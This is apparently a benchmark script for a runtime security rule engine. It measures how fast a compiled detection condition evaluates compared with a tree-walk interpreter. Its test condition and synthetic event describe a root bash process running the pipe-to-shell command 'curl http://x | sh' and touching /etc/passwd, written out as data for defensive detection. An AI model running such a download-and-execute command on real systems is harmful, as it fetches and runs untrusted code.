"""Condition evaluation speed: a generated 10-clause condition on a decoded event, in ns per evaluation.

The same condition is also evaluated by a plain tree walk over the AST (field lookups and operator dispatch
at every step, no code generation) in this one process, so the speed-up is comparable across machines.
The event is matched by every clause, so all ten are evaluated each time (the worst case for ``and``).
Target: generated < 1000 ns per evaluation.
Usage: python tests/bench/bench_condition.py [--number N] [--repeat R]
"""

from __future__ import annotations

import argparse
import sys
import time
import timeit
from pathlib import Path
from types import SimpleNamespace
from typing import Any

REPO = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(REPO))

from engine.condition import compile_condition, parse, substitute_lists
from engine.condition.ast import And, Compare, FieldRef, ListValue, Node, Not, Or, Value
from engine.condition.ops import compare_dynamic
from engine.condition.resolve import resolve_field
from engine.condition.values import convert_value
from engine.fields.base import FieldSpec, FieldType

CONDITION = (
    "evt.type in (execve, execveat) and proc.name != sshd and not proc.pname in (systemd, containerd)"
    " and proc.cmdline contains curl and fd.name startswith /etc and evt.num > 10"
    " and container.privileged = false and proc.args intersects (-c, -x) and user.name = root"
    " and proc.pid >= 100"
)


def _proc_pname(e: Any, a: Any) -> Any:
    parent = e.proc.parent
    return None if parent is None else parent.name


# Extractors read attributes of the decoded event directly, as the real field tables do.
FIELDS: dict[str, FieldSpec] = {
    s.name: s
    for s in [
        FieldSpec("evt.type", FieldType.STRING, extract=lambda e, a: e.evt_type),
        FieldSpec("evt.num", FieldType.UINT64, extract=lambda e, a: e.num),
        FieldSpec("proc.name", FieldType.STRING, extract=lambda e, a: e.proc.name),
        FieldSpec("proc.pname", FieldType.STRING, extract=_proc_pname),
        FieldSpec("proc.cmdline", FieldType.STRING, extract=lambda e, a: e.proc.cmdline),
        FieldSpec("proc.args", FieldType.STRING, is_list=True, extract=lambda e, a: e.proc.args),
        FieldSpec("proc.pid", FieldType.PID, extract=lambda e, a: e.proc.pid),
        FieldSpec("fd.name", FieldType.FSPATH, extract=lambda e, a: e.fd.name if e.fd is not None else None),
        FieldSpec(
            "container.privileged",
            FieldType.BOOL,
            extract=lambda e, a: e.container.privileged if e.container is not None else None,
        ),
        FieldSpec("user.name", FieldType.STRING, extract=lambda e, a: e.user.name),
    ]
}


EVENT = SimpleNamespace(
    evt_type="execve",
    num=12345,
    cache={},
    proc=SimpleNamespace(
        name="bash",
        pid=4242,
        cmdline="bash -c curl http://x | sh",
        args=["-c", "curl http://x | sh"],
        parent=SimpleNamespace(name="python3"),
    ),
    fd=SimpleNamespace(name="/etc/passwd"),
    container=SimpleNamespace(privileged=False),
    user=SimpleNamespace(name="root"),
)


def tree_walk(node: Node, event: Any) -> bool:
    """Reference evaluator: interpret the AST directly, resolving fields and values on every call."""
    if isinstance(node, And):
        return all(tree_walk(c, event) for c in node.children)
    if isinstance(node, Or):
        return any(tree_walk(c, event) for c in node.children)
    if isinstance(node, Not):
        return not tree_walk(node.child, event)
    assert isinstance(node, Compare) and isinstance(node.left, FieldRef)
    spec, arg = resolve_field(node.left, FIELDS)
    value = spec.extract(event, arg)
    if node.op == "exists":
        return value is not None
    right = node.right
    texts = [v.text for v in right.items] if isinstance(right, ListValue) else [right.text]  # type: ignore[union-attr]
    if node.op in ("in", "intersects"):
        consts = [convert_value(t, spec.type) for t in texts]
        items = value if isinstance(value, list) else [value]
        return value is not None and any(x in consts for x in items)
    assert isinstance(right, Value)
    const = right.text if node.op in ("contains", "startswith") else convert_value(right.text, spec.type)
    return compare_dynamic(node.op, value, const)


def upstream_parse_ms() -> tuple[int, float] | None:
    """Milliseconds to substitute lists into and parse every upstream rule/macro condition (None if absent)."""
    import os

    import yaml

    shared = Path(os.environ.get("FALCOPY_SHARED") or REPO.parent / "shared") / "upstream" / "rules"
    if not shared.is_dir():
        return None
    texts: list[str] = []
    for path in sorted(shared.glob("*.yaml")):
        items = yaml.load(path.read_text(), Loader=yaml.CSafeLoader) or []
        lists = {i["list"]: i.get("items") or [] for i in items if "list" in i}
        texts += [substitute_lists(i["condition"], lists) for i in items if "condition" in i]
    start = time.perf_counter()
    for text in texts:
        parse(text)
    return len(texts), (time.perf_counter() - start) * 1000


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--number", type=int, default=200_000)
    parser.add_argument("--repeat", type=int, default=5)
    args = parser.parse_args()

    node = parse(CONDITION)
    fn = compile_condition(node, "syscall", fields=FIELDS)
    if not fn(EVENT) or not tree_walk(node, EVENT):
        print("bench_condition: the event must match the condition", file=sys.stderr)
        return 1

    compile_ns = (
        min(timeit.repeat(lambda: compile_condition(node, "syscall", fields=FIELDS), number=200, repeat=3))
        / 200
        * 1e9
    )
    gen_ns = min(timeit.repeat(lambda: fn(EVENT), number=args.number, repeat=args.repeat)) / args.number * 1e9
    walk_number = max(args.number // 10, 1)
    walk_ns = min(timeit.repeat(lambda: tree_walk(node, EVENT), number=walk_number, repeat=args.repeat))
    walk_ns = walk_ns / walk_number * 1e9

    # The floor: the same ten extractor calls, straight-line, with nothing compared.
    names = [f"x{i}" for i in range(len(FIELDS))]
    floor_src = f"def floor(e, {', '.join(n + '=' + n for n in names)}):\n"
    floor_src += "".join(f"    {n}(e, None)\n" for n in names)
    namespace: dict[str, Any] = dict(zip(names, (spec.extract for spec in FIELDS.values()), strict=True))
    exec(floor_src, namespace)  # noqa: S102 - our own source
    floor = namespace["floor"]
    extract_ns = min(timeit.repeat(lambda: floor(EVENT), number=args.number, repeat=args.repeat))
    extract_ns = extract_ns / args.number * 1e9

    status = "OK" if gen_ns < 1000 else "ABOVE TARGET"
    print(
        f"condition eval (10 clauses, all evaluated): generated {gen_ns:.0f} ns/eval [{status}, target < 1000 ns]"
    )
    print(
        f"condition eval (10 clauses, all evaluated): tree walk {walk_ns:.0f} ns/eval, "
        f"generated is {walk_ns / gen_ns:.1f}x faster"
    )
    print(
        f"floor: the 10 extractor calls alone, straight-line: {extract_ns:.0f} ns/eval "
        f"(comparisons add {gen_ns - extract_ns:.0f} ns)"
    )
    print(f"condition compile (parse excluded, check + codegen): {compile_ns / 1000:.0f} us per condition")
    upstream = upstream_parse_ms()
    if upstream is not None:
        print(f"parse of all {upstream[0]} upstream rule/macro conditions: {upstream[1]:.1f} ms")
    return 0


if __name__ == "__main__":
    sys.exit(main())
